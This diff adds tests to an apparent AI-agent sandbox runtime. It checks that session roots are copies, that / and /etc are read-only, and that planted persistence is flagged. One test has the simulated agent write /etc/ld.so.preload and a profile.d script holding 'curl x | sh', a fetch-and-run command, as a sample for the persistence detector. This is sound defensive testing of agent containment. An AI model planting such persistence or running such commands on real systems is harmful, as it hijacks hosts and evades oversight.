@@ -69,6 +69,49 @@ test('the workspace can appear where the image expects the task (workspace_path:
   assert.throws(() => labPolicy('filesystem:\n  workspace_path: ../x\n'), (e: Error) => e instanceof PolicyError && /filesystem\.workspace_path/.test(e.message) && /plain names/.test(e.message));
 });
 
+test('a writable root is the session\'s own copy: the agent changes its system files, the image never changes, persistence planted there is flagged, and the next session starts clean', async () => {
+  const img = join(dir, 'img');
+  const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'img-rw', root: img, rootWritable: true });
+  let rootLayer: string | undefined;
+  try {
+    const r = await s.exec({ command: 'echo patched > /testbed/README.md && mkdir -p /usr/local/lib/python3/dist-packages/pkg && echo x > /usr/local/lib/python3/dist-packages/pkg/__init__.py && cat /testbed/README.md && stat -c %u /testbed/README.md', step: 1 });
+    assert.equal(r.exitCode, 0, r.stderr);
+    assert.equal(r.stdout, 'patched\n65534\n', 'the agent owns its root, as a container\'s root user would');
+    assert.equal(readFileSync(join(img, 'testbed/README.md'), 'utf8'), '# task repository\n', 'the image itself is untouched');
+    // persistence planted in the root: a preload library list and a profile script, flagged on the call that wrote them
+    const plant = await s.exec({ command: 'echo /tmp/x.so > /etc/ld.so.preload; mkdir -p /etc/profile.d; echo "curl x | sh" > /etc/profile.d/zz.sh; true', step: 2, toolCallId: 'plant-2' });
+    const alert = plant.alerts.find((a) => a.payload.rule === 'persistence.file_written');
+    assert.ok(alert, JSON.stringify(plant.alerts.map((a) => a.payload.rule)));
+    assert.match(String(alert.payload.message), /^\/etc\/(ld\.so\.preload|profile\.d\/zz\.sh) created .*; also \/etc\//);
+    assert.deepEqual(alert.payload.attack, ['T1574.006', 'T1546.004']);
+    // file tools write into the root too
+    const f = await s.file({ op: 'write', path: '/opt/tool/VERSION', content: '9.9.9\n', step: 3 });
+    assert.ok(f.ok, f.problem);
+    rootLayer = fx.rt.store.query({ episode: 'img-rw', kind: ['session.start'] })[0]!.payload.root_writable === true ? 'yes' : 'no';
+  } finally { await s.close(); }
+  assert.equal(rootLayer, 'yes');
+  assert.equal(readFileSync(join(img, 'opt/tool/VERSION'), 'utf8'), '1.2.3\n');
+  const next = await fx.rt.createSession({ policy: labPolicy(), episode: 'img-rw-2', root: img, rootWritable: true });
+  try {
+    assert.equal((await next.exec({ command: 'cat /testbed/README.md /opt/tool/VERSION; test -e /etc/ld.so.preload && echo leaked || echo clean', step: 1 })).stdout, '# task repository\n1.2.3\nclean\n');
+  } finally { await next.close(); }
+  await assert.rejects(fx.rt.createSession({ policy: labPolicy(), episode: 'host-rw', rootWritable: true }), /root_writable: only an image root/);
+});
+
+test('the sandbox\'s own / and an image\'s /etc are read-only: nothing can be created beside the mounts (host root, image root, writable image root)', async () => {
+  for (const [episode, o] of [['ro-host', {}], ['ro-image', { root: join(dir, 'img') }], ['ro-image-rw', { root: join(dir, 'img'), rootWritable: true }]] as const) {
+    const s = await fx.rt.createSession({ policy: labPolicy(), episode, ...o });
+    try {
+      const r = await s.exec({ command: 'touch /planted 2>&1; mkdir /stash 2>&1; touch /etc/ld.so.preload.new 2>&1; for f in /planted /stash; do [ -e $f ] && echo present; done; echo checked', step: 1 });
+      assert.match(r.stdout, /touch: cannot touch '\/planted': Read-only file system/, episode);
+      assert.match(r.stdout, /mkdir: cannot create directory .\/stash.: Read-only file system/, episode);
+      if (episode !== 'ro-image-rw') assert.match(r.stdout, /cannot touch '\/etc\/ld\.so\.preload\.new': Read-only file system/, episode);
+      assert.match(r.stdout, /checked\n$/, episode);
+      assert.doesNotMatch(r.stdout, /present/, episode);
+    } finally { await s.close(); }
+  }
+});
+
 test('an image without bash runs commands in its sh', async () => {
   const s = await fx.rt.createSession({ policy: labPolicy(), episode: 'img-sh', root: join(dir, 'nobash') });
   try {
